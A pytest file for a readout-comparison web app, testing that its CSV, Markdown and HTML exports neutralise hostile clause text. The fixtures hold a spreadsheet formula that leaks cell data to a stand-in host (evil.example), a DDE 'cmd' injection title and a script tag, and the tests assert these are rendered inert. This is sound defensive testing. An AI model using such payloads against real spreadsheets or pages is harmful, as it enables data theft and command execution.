"""Downloads of a comparison: CSV read back with the csv module, Markdown rendered by a
CommonMark parser, the standalone HTML, all safe with hostile clause text; and the JSON
twin saying where they are."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from fastapi.testclient import TestClient
from markdown_it import MarkdownIt

from app.config import Settings
from app.main import create_app

SLUG = "2025-03-18-trump-putin-call"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full readout")'
LEFT = (
    "The leaders agreed that the movement to peace will begin with an energy and "
    "infrastructure ceasefire. "
    f"{FORMULA} was pasted into the statement by someone. "
    "The statement also said <script>alert('x')</script> and | pipes | *stars* "
    "[a link](http://x.example) &amp; more."
)
RIGHT = (
    "Donald Trump proposed that the parties refrain from attacks on energy infrastructure "
    "facilities for 30 days. "
    "-2+3 is what @everyone said about hockey matches between Russian and American players."
)


def create(client: TestClient, **changes: Any) -> dict[str, Any]:
    body: dict[str, Any] = {
        "title": "=cmd|' /C calc'!A0 <b>call</b>",
        "date": "2025-03-18",
        "left": {"label": "White House", "text": LEFT, "source": "https://example.org/wh"},
        "right": {"label": "Kremlin", "text": RIGHT},
        **changes,
    }
    response = client.post("/api/comparisons", json=body)
    assert response.status_code == 201, response.text
    data: dict[str, Any] = response.json()
    return data


def read_csv(content: bytes) -> list[dict[str, str]]:
    assert content.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def clause_text(side: dict[str, Any], index: int) -> str:
    clause = side["clauses"][index]
    return str(side["text"][clause["start"] : clause["end"]])


def test_csv_has_one_row_per_link_or_one_sided_clause(client: TestClient) -> None:
    data = create(client)
    response = client.get(f"/c/{data['slug']}.csv")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    disposition = response.headers["content-disposition"]
    assert disposition == f'attachment; filename="readouts-{data["slug"]}.csv"'
    rows = read_csv(response.content)
    one_sided = data["one_sided"]
    assert len(rows) == len(data["links"]) + len(one_sided["left"]) + len(one_sided["right"])
    assert [r["row"] for r in rows] == [str(n) for n in range(1, len(rows) + 1)]
    links = [r for r in rows if r["link"]]
    assert sorted(int(r["link"]) for r in links) == list(range(1, len(data["links"]) + 1))
    for row in links:
        link = data["links"][int(row["link"]) - 1]
        assert row["strength"] == link["kind"] and row["confidence"] == link["confidence"]
        assert float(row["score"]) == pytest.approx(link["score"], abs=0.001)
        assert row["left issuer"] == "White House" and row["right issuer"] == "Kremlin"
        assert row["left clauses"] == " ".join(f"L{i + 1}" for i in link["left"])
        assert row["right clauses"] == " ".join(f"R{j + 1}" for j in link["right"])
        assert row["permalink"] == f"/c/{data['slug']}#link-{row['link']}"
    only_left = [r for r in rows if r["said by"] == "White House"]
    assert [r["left clauses"] for r in only_left] == [f"L{i + 1}" for i in one_sided["left"]]
    for row in only_left:
        assert row["right text"] == "" and row["link"] == "" and row["strength"] == ""


def test_csv_offsets_give_the_clause_text(client: TestClient) -> None:
    data = create(client)
    rows = read_csv(client.get(f"/c/{data['slug']}.csv").content)
    for row in rows:
        for name in ("left", "right"):
            if not row[f"{name} clauses"]:
                continue
            side = data[name]
            starts = [int(s) for s in row[f"{name} start"].split()]
            ends = [int(e) for e in row[f"{name} end"].split()]
            texts = [side["text"][s:e] for s, e in zip(starts, ends, strict=True)]
            anchors = row[f"{name} clauses"].split()
            indexes = [int(a[1:]) - 1 for a in anchors]
            assert texts == [clause_text(side, i) for i in indexes]
            shown = row[f"{name} text"].removeprefix("'")
            assert all(" ".join(t.split()) in " ".join(shown.split()) for t in texts)


def test_csv_cells_never_start_a_formula(client: TestClient) -> None:
    data = create(client)
    rows = read_csv(client.get(f"/c/{data['slug']}.csv").content)
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # the hostile clauses are there, word for word, behind a quote
    assert any(c.startswith("'" + FORMULA) for c in cells)
    assert any(c.startswith("'-2+3 is what @everyone") for c in cells)
    assert any("<script>alert('x')</script>" in c for c in cells)  # text, kept as written


def test_markdown_is_a_two_column_table_that_shows_the_text_as_written(
    client: TestClient,
) -> None:
    data = create(client)
    response = client.get(f"/c/{data['slug']}.md")
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/markdown; charset=utf-8"
    assert response.headers["content-disposition"].endswith(f'readouts-{data["slug"]}.md"')
    rendered = MarkdownIt("commonmark").enable("table").render(response.text)
    page = Parsed(rendered)
    assert "script" not in page.tags and "b" not in page.tags and "strong" not in page.tags
    assert set(page.emphasised) <= {"Not in the White House readout", "Not in the Kremlin readout"}
    # the source is linked; nothing in clause text is, and no absolute address is known
    assert page.hrefs == ["https://example.org/wh"]
    assert page.headers == [["White House", "Kremlin"]]
    rows = len(data["links"]) + len(data["one_sided"]["left"]) + len(data["one_sided"]["right"])
    assert len(page.rows) == rows and all(len(r) == 2 for r in page.rows)
    text = " ".join(cell for row in page.rows for cell in row)
    assert "<script>alert('x')</script> and | pipes | *stars* [a link](http://x.example)" in text
    assert "&amp; more" in text  # an entity in the text is shown, not decoded
    assert "Not in the Kremlin readout" in text
    assert page.h1 == "=cmd|' /C calc'!A0 <b>call</b>"


def test_markdown_says_how_much_each_side_said(client: TestClient) -> None:
    data = create(client)
    text = client.get(f"/c/{data['slug']}.md").text
    shown = re.search(r"<strong>(\d+)</strong> points? both made", client.get(data["url"]).text)
    assert shown, "the page's summary line"
    n, left, right = (
        int(shown.group(1)),  # points as the page counts them, not links
        len(data["one_sided"]["left"]),
        len(data["one_sided"]["right"]),
    )
    assert f"{n} point{'s' if n != 1 else ''} made by both, {left} only by White House, " in text
    assert f"{right} only by Kremlin." in text


def test_standalone_html_is_escaped_and_loads_nothing(client: TestClient) -> None:
    data = create(client)
    response = client.get(f"/c/{data['slug']}.html")
    assert response.status_code == 200
    assert response.headers["content-disposition"].endswith(f'readouts-{data["slug"]}.html"')
    policy = response.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "script" not in policy
    page = Parsed(response.text)
    assert "script" not in page.tags and "img" not in page.tags and "link" not in page.tags
    assert not page.sources  # no src= anywhere
    assert page.hrefs == ["https://example.org/wh", f"/c/{data['slug']}"]
    assert "url(" not in response.text and "@import" not in response.text
    assert "<script>alert('x')</script>" in page.text  # the clause, shown as text


def test_the_export_is_made_from_what_the_page_shows(corpus_client: TestClient) -> None:
    data = corpus_client.get(f"/c/{SLUG}.json").json()
    html = corpus_client.get(f"/c/{SLUG}.html").text
    page = Parsed(html)
    assert len(page.rows) == len(data["links"]) + sum(map(len, data["one_sided"].values()))
    assert html.count("The Kremlin readout does not mention this.") == len(
        data["one_sided"]["left"]
    )
    assert html.count("The White House readout does not mention this.") == len(
        data["one_sided"]["right"]
    )
    assert 'class="w-changed"' in html and 'class="w-shared"' in html


@pytest.mark.parametrize("fmt", ["csv", "md", "html"])
def test_downloads_answer_conditional_requests_and_head(
    corpus_client: TestClient, fmt: str
) -> None:
    first = corpus_client.get(f"/c/{SLUG}.{fmt}")
    assert first.status_code == 200
    again = corpus_client.get(f"/c/{SLUG}.{fmt}", headers={"If-None-Match": first.headers["etag"]})
    assert again.status_code == 304
    cached = corpus_client.get(f"/c/{SLUG}.{fmt}")
    assert cached.content == first.content
    assert cached.headers["content-disposition"] == first.headers["content-disposition"]
    head = corpus_client.head(f"/c/{SLUG}.{fmt}")
    assert head.status_code == 200 and head.content == b""
    assert head.headers["content-disposition"] == first.headers["content-disposition"]
    assert first.headers["etag"] != corpus_client.get(f"/c/{SLUG}.json").headers["etag"]


def test_the_page_and_its_standalone_download_are_cached_apart(
    corpus_client: TestClient,
) -> None:
    download = corpus_client.get(f"/c/{SLUG}.html")
    page = corpus_client.get(f"/c/{SLUG}")
    assert download.headers["etag"] != page.headers["etag"]
    assert "content-disposition" not in page.headers and 'class="downloads' in page.text
    assert 'class="downloads' not in corpus_client.get(f"/c/{SLUG}.html").text


@pytest.mark.parametrize("fmt", ["csv", "md", "html"])
def test_missing_comparison_is_a_404_that_says_so(client: TestClient, fmt: str) -> None:
    response = client.get(f"/c/no-such-thing.{fmt}")
    assert response.status_code == 404
    assert "There is no comparison at /c/no-such-thing" in response.text


def test_page_and_json_twin_point_at_the_downloads(corpus_client: TestClient) -> None:
    data = corpus_client.get(f"/c/{SLUG}.json").json()
    assert data["downloads"] == {
        "csv": f"/c/{SLUG}.csv",
        "markdown": f"/c/{SLUG}.md",
        "html": f"/c/{SLUG}.html",
    }
    page = Parsed(corpus_client.get(f"/c/{SLUG}").text)
    for url in data["downloads"].values():
        assert url in page.hrefs
        assert corpus_client.get(url).status_code == 200


def test_unlisted_comparisons_download_by_their_secret_link(client: TestClient) -> None:
    data = create(client, unlisted=True)
    rows = read_csv(client.get(f"/c/{data['slug']}.csv").content)
    assert rows and rows[0]["permalink"].startswith(f"/c/{data['slug']}#")


def test_with_a_public_origin_addresses_are_absolute(migrated: Settings) -> None:
    settings = migrated.model_copy(update={"public_origin": "https://readouts.example"})
    app = create_app(settings)
    try:
        with TestClient(app) as client:
            data = create(client)
            rows = read_csv(client.get(f"/c/{data['slug']}.csv").content)
            markdown = client.get(f"/c/{data['slug']}.md").text
            html = client.get(f"/c/{data['slug']}.html").text
    finally:
        app.state.db.dispose()
    address = f"https://readouts.example/c/{data['slug']}"
    assert all(r["permalink"].startswith(address + "#") for r in rows)
    assert f"<{address}>" in markdown
    assert address in Parsed(MarkdownIt("commonmark").render(markdown)).hrefs
    assert address in Parsed(html).hrefs


class Parsed(HTMLParser):
    """What the tests look at in an HTML document: tags, links, sources, table cells."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.hrefs: list[str] = []
        self.sources: list[str] = []
        self.headers: list[list[str]] = []
        self.rows: list[list[str]] = []
        self.text = ""
        self.h1 = ""
        self.emphasised: list[str] = []
        self._cell: list[str] | None = None
        self._row: list[str] | None = None
        self._in: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self._in.append(tag)
        found = dict(attrs)
        if tag == "a" and found.get("href"):
            self.hrefs.append(found["href"] or "")
        if found.get("src"):
            self.sources.append(found["src"] or "")
        if tag == "tr":
            self._row = []
        if tag in ("td", "th"):
            self._cell = []
        if tag == "em":
            self.emphasised.append("")

    def handle_endtag(self, tag: str) -> None:
        if self._in and self._in[-1] == tag:
            self._in.pop()
        if tag in ("td", "th") and self._cell is not None and self._row is not None:
            self._row.append(" ".join("".join(self._cell).split()))
            self._cell = None
        if tag == "tr" and self._row is not None:
            (self.headers if "thead" in self._in else self.rows).append(self._row)
            self._row = None

    def handle_data(self, data: str) -> None:
        self.text += data
        if self._cell is not None:
            self._cell.append(data)
        if "h1" in self._in:
            self.h1 += data
        if "em" in self._in:
            self.emphasised[-1] += data


def test_exports_and_the_feed_are_made_off_the_event_loop(
    corpus_client: TestClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    import asyncio

    import app.services.exports
    import app.services.sharing

    loops: list[object] = []

    def watched(function: Any) -> Any:
        def call(*args: Any) -> Any:
            loops.append(asyncio._get_running_loop())
            return function(*args)

        return call

    monkeypatch.setattr(app.services.exports, "export", watched(app.services.exports.export))
    monkeypatch.setattr(app.services.sharing, "feed", watched(app.services.sharing.feed))
    for fmt in ("csv", "md", "html"):
        assert corpus_client.get(f"/c/{SLUG}.{fmt}").status_code == 200
    assert corpus_client.get("/feed.atom").status_code == 200
    assert loops == [None, None, None, None]  # each made in a worker thread


def test_rows_follow_the_left_text_and_place_right_only_clauses_after_their_neighbour(
    corpus_client: TestClient,
) -> None:
    data = corpus_client.get(f"/c/{SLUG}.json").json()
    rows = read_csv(corpus_client.get(f"/c/{SLUG}.csv").content)

    def clauses(row: dict[str, str], name: str) -> list[int]:
        return [int(a[1:]) - 1 for a in row[f"{name} clauses"].split()]

    lefts = [clauses(r, "left")[0] for r in rows if r["left clauses"]]
    assert lefts == sorted(lefts)
    linked_right = sorted({j for link in data["links"] for j in link["right"]})
    right_only = [(n, clauses(r, "right")[0]) for n, r in enumerate(rows) if not r["left clauses"]]
    assert sorted(j for _, j in right_only) == data["one_sided"]["right"]
    for n, j in right_only:
        before = [k for k in linked_right if k < j]
        if before:  # after the first row that holds the right clause just before it
            holder = next(m for m, r in enumerate(rows) if before[-1] in clauses(r, "right"))
            assert holder < n
            # and no later point of the left text comes between them
            place = clauses(rows[holder], "left")[0]
            between = [clauses(r, "left")[0] for r in rows[holder:n] if r["left clauses"]]
            assert set(between) == {place}
        else:
            assert all(not r["link"] for r in rows[:n])


def test_downloads_follow_a_hand_correction(client: TestClient) -> None:
    from tests.corrections.helpers import body as correctable
    from tests.corrections.helpers import form, made_from

    made = made_from(client.post("/api/comparisons", json=correctable()).json())
    before = read_csv(client.get(f"/c/{made.slug}.csv").content)
    removed = made.data["links"][0]
    saved = client.post(
        f"/c/{made.slug}/edit", data=form(made, remove=made.keys[0]), follow_redirects=False
    )
    assert saved.status_code == 303, saved.text
    data = client.get(f"/c/{made.slug}.json").json()
    after = read_csv(client.get(f"/c/{made.slug}.csv").content)
    assert len(data["links"]) == len(made.data["links"]) - 1
    assert len([r for r in after if r["link"]]) == len([r for r in before if r["link"]]) - 1
    assert len(after) == len(data["links"]) + sum(map(len, data["one_sided"].values()))
    gone = (
        " ".join(f"L{i + 1}" for i in removed["left"]),
        " ".join(f"R{j + 1}" for j in removed["right"]),
    )
    assert gone not in [(r["left clauses"], r["right clauses"]) for r in after if r["link"]]
    # a past revision's page offers no downloads: they are of the current one
    assert 'class="downloads' not in client.get(f"/c/{made.slug}/r/1").text
    assert 'class="downloads' in client.get(f"/c/{made.slug}").text
